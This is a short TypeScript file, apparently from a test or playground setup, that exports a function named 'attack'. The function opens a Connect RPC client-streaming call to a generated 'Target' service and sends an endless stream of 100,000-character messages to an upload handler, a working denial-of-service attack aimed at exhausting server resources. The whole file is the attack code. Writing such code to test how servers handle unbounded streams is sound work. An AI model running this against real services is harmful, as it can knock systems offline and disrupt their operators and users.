import { createClient } from "@connectrpc/connect";
import { transport } from "playground";
import { Target } from "./gen/target_pb";

/** A request that never ends, to a handler that reads on. */
export async function attack() {
  async function* notes() {
    for (;;) yield { text: "x".repeat(100_000) };
  }
  await createClient(Target, transport).upload(notes());
}
